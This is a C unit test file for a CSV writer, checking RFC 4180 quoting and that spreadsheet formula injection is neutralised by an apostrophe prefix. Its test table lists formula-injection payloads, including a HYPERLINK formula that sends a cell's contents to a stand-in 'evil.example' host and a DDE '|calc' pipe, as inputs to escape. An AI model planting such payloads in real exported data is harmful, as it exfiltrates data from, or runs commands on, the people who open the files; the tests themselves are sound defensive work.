// SPDX-License-Identifier: GPL-3.0-or-later
// test_csv.c - cells of CSV as RFC 4180 has them, and each text that a spreadsheet would run, with the reason why it is marked.
#include "common/base/csv.h"

static void assert_cell(const char *text, const char *wanted)
{
    g_autoptr(GString) csv = g_string_new(NULL);
    csv_add(csv, text);
    g_assert_cmpstr(csv->str, ==, wanted);
}

static void test_quoted(void)
{
    assert_cell("", "\"\"");
    assert_cell(NULL, "\"\"");
    assert_cell("Ngũgĩ, wa", "\"Ngũgĩ, wa\"");
    assert_cell("the \"big\" hall", "\"the \"\"big\"\" hall\"");
    assert_cell("two\r\nlines", "\"two\r\nlines\"");
    assert_cell("\"", "\"\"\"\"");
}

static void test_lines(void)
{
    static const char *const cells[] = {"a", NULL, "c"};
    g_autoptr(GString) csv = g_string_new(NULL);
    csv_add_line(csv, cells, G_N_ELEMENTS(cells));
    csv_add(csv, "");
    csv_add_number(csv, "-5.00");
    csv_add_number(csv, "");
    csv_end(csv);
    g_assert_cmpstr(csv->str, ==, "\"a\",\"\",\"c\"\r\n\"\",-5.00,\"\"\r\n");
}

static void test_formulas(void)
{
    static const struct {
        const char *text, *why;
    } rows[] = {
        {"=1+1", "a formula of every spreadsheet"},
        {"=HYPERLINK(\"https://evil.example/\"&A1)", "sends another cell away"},
        {"+1-1", "a formula as Lotus had it, which Excel still takes"},
        {"+49 170 1234567", "Excel calculates it, and shows what nobody can call"},
        {"-2+3", "as after a plus"},
        {"-5", "a stranger's; amounts of our own are csv_add_number()'s"},
        {"@SUM(A1)", "Lotus's functions, which Excel still takes"},
        {"\t=1+1", "a tab may end the cell, and a formula begins the next"},
        {"\r=1+1", "so may a carriage return"},
        {"\n=1+1", "and a line feed"},
        {"\tplain", "whatever follows, since it lands in another column"},
        {"|calc", "the pipe of dynamic data exchange"},
        {"%0A=1+1", "a line feed for whoever decodes it"},
        {" =1+1", "LibreOffice and Sheets trim blanks first"},
        {"\xc2\xa0=1+1", "so they do with a no-break space"},
        {"\xe2\x80\x8b=1+1", "a zero-width space is not seen at all"},
        {"\xef\xbb\xbf=1+1", "nor is a byte order mark"},
        {" \t=1+1", "blanks before a tab"},
        {"\xef\xbc\x9d"
         "1+1",
         "full-width equals, which Excel takes in Japanese and Chinese"},
        {"\xef\xbc\x8b"
         "1+1",
         "full-width plus"},
        {"\xef\xbc\x8d"
         "1+1",
         "full-width minus"},
        {"\xef\xbc\xa0"
         "SUM(A1)",
         "full-width at"},
    };
    for (gsize i = 0; i < G_N_ELEMENTS(rows); i++) {
        g_autoptr(GString) csv = g_string_new(NULL);
        csv_add(csv, rows[i].text);
        g_test_message("%s", rows[i].why);
        g_assert_true(g_str_has_prefix(csv->str, "\"'"));
    }
}

// Where cells are parted by something else than a comma, a formula begins in the middle of a text.
static void test_other_separators(void)
{
    assert_cell(";=1+1", "\";'=1+1\"");
    assert_cell("a;=1+1", "\"a;'=1+1\"");
    assert_cell("a; \xe2\x80\x8b+1", "\"a;' \xe2\x80\x8b+1\"");
    assert_cell("a\t-1", "\"a\t'-1\"");
    assert_cell("a\r\n@SUM(A1)", "\"a\r\n'@SUM(A1)\"");
    assert_cell("a;\"=1+1\"", "\"a;'\"\"=1+1\"\"\"");
    assert_cell("\t=1+1", "\"'\t'=1+1\"");
    assert_cell("a;b; c;", "\"a;b; c;\"");
    assert_cell("a,=b", "\"a,=b\"");
}

// Our own files are read again, and then each text is what it was.
static void test_read_again(void)
{
    static const char *const texts[] = {"",      "a",  "=1",     "'=1", "''=1", "\t=1", "\n'",     "a;=1;'+2",
                                        "';'=1", "';", "a;'\t-", "'",   "' =",  "\"=1", "'\"'\t-", "\xff="};
    for (gsize i = 0; i < G_N_ELEMENTS(texts); i++) {
        g_autoptr(GString) csv = g_string_new(NULL);
        csv_add(csv, texts[i]);
        g_autofree char *inner = g_strndup(csv->str + 1, csv->len - 2);
        g_auto(GStrv) pieces = g_strsplit(inner, "\"\"", -1);
        g_autofree char *cell = g_strjoinv("\"", pieces);
        g_autofree char *again = csv_without_marks(cell);
        g_assert_cmpstr(again, ==, texts[i]);
    }
}

static void test_new(void)
{
    static const char *const headings[] = {"name", "=x"};
    g_autoptr(GString) csv = csv_new(headings, G_N_ELEMENTS(headings));
    csv_add(csv, "Ada");
    g_assert_cmpstr(csv->str, ==, "\ufeff\"name\",\"'=x\"\r\n\"Ada\"");
}

// What only contains such a letter stays as it was typed.
static void test_plain(void)
{
    static const char *const texts[] = {"a=b", "C++",  "ada@example.org", "Jean-Luc", "100 %", "5", "0049 170", " Ada", "'",
                                        "١٢",  "a\xff"};
    for (gsize i = 0; i < G_N_ELEMENTS(texts); i++) {
        g_autofree char *wanted = g_strdup_printf("\"%s\"", texts[i]);
        assert_cell(texts[i], wanted);
    }
    assert_cell("\xff=", "\"\xff=\""); // not UTF-8: written, not read beyond
    assert_cell("  ", "\"  \"");
}

int main(int argc, char **argv)
{
    g_test_init(&argc, &argv, NULL);
    g_test_add_func("/csv/cells are quoted", test_quoted);
    g_test_add_func("/csv/lines of cells", test_lines);
    g_test_add_func("/csv/no text is a formula", test_formulas);
    g_test_add_func("/csv/no text is a formula behind another separator", test_other_separators);
    g_test_add_func("/csv/a text is read again as it was", test_read_again);
    g_test_add_func("/csv/a new file says that it is UTF-8", test_new);
    g_test_add_func("/csv/other texts stay", test_plain);
    return g_test_run();
}
